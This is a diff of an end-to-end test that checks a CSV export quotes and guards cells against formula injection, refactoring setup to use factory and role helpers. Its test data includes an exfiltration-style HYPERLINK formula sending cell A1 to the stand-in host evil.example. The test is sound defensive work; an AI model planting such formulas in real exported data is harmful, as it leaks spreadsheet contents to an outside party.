@@ -1,24 +1,21 @@
 import Papa from 'papaparse';
-import { creators } from '../../src/lib/server/db/schema';
-import { openE2eDatabase, openE2eDb } from '../support/database';
-import { ApiUser, expect, test } from '../support/support';
+import { makeCreator } from '../../src/lib/server/testing/factories';
+import { test } from '../support/roles';
+import { expect } from '../support/support';
 
 // CSV injection (issue 15): Excel in German or French splits on `;`, so a formula may start after
 // a separator inside a cell as well as at its start. The export quotes every cell and guards both,
 // and our import still reads it back as the same creator.
 
-const db = openE2eDatabase();
-test.afterAll(() => db.close());
+test.use({ names: { owner: 'CSV injection' } });
 
 test('a creator named x;=1+1 exports quoted and guarded, and reads back as the same creator', async ({
-	baseURL
+	owner,
+	db
 }) => {
-	const owner = await ApiUser.signUp(baseURL!, 'CSV injection');
 	const name = 'x;=1+1';
 	const notes = 'a,=HYPERLINK("http://evil.example/?"&A1,"x")';
-	await openE2eDb(db)
-		.insert(creators)
-		.values({ id: `cr-${owner.workspaceId}`, workspaceId: owner.workspaceId, name, notes });
+	await makeCreator(db, owner.workspaceId, { name, notes });
 
 	const response = await owner.api.get(`/w/${owner.workspaceId}/creators/export.csv`);
 	expect(response.status()).toBe(200);
@@ -51,5 +48,4 @@ test('a creator named x;=1+1 exports quoted and guarded, and reads back as the s
 	expect(await preview.text()).toContain(
 		'Every row is already in your directory, so there is nothing new to import.'
 	);
-	await owner.dispose();
 });
